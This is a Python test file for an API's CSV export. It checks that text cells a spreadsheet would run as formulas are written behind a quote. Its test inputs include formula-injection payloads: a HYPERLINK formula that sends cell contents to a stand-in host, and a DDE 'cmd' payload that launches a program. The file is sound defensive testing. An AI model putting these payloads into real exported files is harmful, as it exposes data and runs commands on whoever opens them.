"""CSV is safe to open in a spreadsheet (issue #30, point 7): a text cell
that a spreadsheet would run as a formula is written after a quote; numbers,
negative ones included, are written as they are."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from services.api.formats import BOM, FORMULA_STARTS, Format, csv_lines

COLUMNS = ("sous_champ", "nom", "valeur", "couverture", "annee")


def read_back(rows: list[dict], fmt: Format) -> list[list[str]]:
    text = b"".join(csv_lines(rows, COLUMNS, fmt)).decode().removeprefix(BOM)
    return list(
        csv.reader(io.StringIO(text, newline=""), delimiter=";" if fmt == "csv-fr" else ",")
    )


def row(text: str, valeur: object = Decimal("-3.5")) -> dict:
    return {"sous_champ": text, "nom": text, "valeur": valeur, "couverture": 0.5, "annee": 2024}


@pytest.mark.parametrize("fmt", ["csv", "csv-fr"])
@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x.example/?"&A1,"ouvrir")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_formula_from_a_producer_is_text_in_the_spreadsheet(fmt: Format, text: str) -> None:
    header, line = read_back([row(text)], fmt)
    assert header == list(COLUMNS)
    assert line[0] == line[1] == "'" + text
    assert line[2] == ("-3,5" if fmt == "csv-fr" else "-3.5")  # a number stays a number


@given(st.text(max_size=30), st.sampled_from(["csv", "csv-fr"]))
@example("=1+1", "csv")
@example("ordinary label", "csv-fr")
def test_any_text_is_kept_and_none_starts_a_formula(text: str, fmt: Format) -> None:
    [_, line] = read_back([row(text, Decimal("12"))], fmt)
    for cell in line[:2]:
        assert not cell.startswith(FORMULA_STARTS)
        written = cell.removeprefix("'") if text.startswith(FORMULA_STARTS) else cell
        assert written == text
